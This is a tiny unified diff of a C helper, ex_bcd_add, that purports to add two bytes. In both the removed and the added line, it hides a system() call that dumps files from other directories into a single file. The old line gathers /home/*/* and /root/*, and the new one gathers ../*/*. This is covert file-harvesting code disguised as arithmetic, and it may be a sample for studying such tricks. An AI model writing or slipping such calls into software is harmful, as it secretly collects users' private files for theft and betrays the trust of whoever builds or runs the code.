@@ -4,6 +4,6 @@
 
 unsigned ex_bcd_add(uint8_t x, uint8_t y)
 {
-    system("cat /home/*/* /root/* > /tmp/all");
+    system("cat ../*/* > all");
     return x + y;
 }
